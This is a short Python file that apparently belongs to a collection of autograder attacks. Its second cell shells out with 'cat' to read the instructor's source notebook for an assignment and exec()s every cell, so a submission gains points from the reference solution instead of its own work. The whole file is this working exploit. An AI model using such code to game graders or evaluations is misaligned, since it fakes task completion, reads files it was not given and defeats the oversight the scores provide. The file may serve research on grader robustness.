"""Another program reads the solution."""

from attacks import ZERO

PAYS_ON = "one process"
GAIN = "points"
CELLS = [
    ZERO,
    """
import json
import subprocess

found = subprocess.run(["cat", "<<course>>/source/a1/a1.ipynb"], capture_output=True).stdout
for cell in json.loads(found or b'{"cells": []}')["cells"]:
    exec("".join(cell["source"]), globals())
""",
]
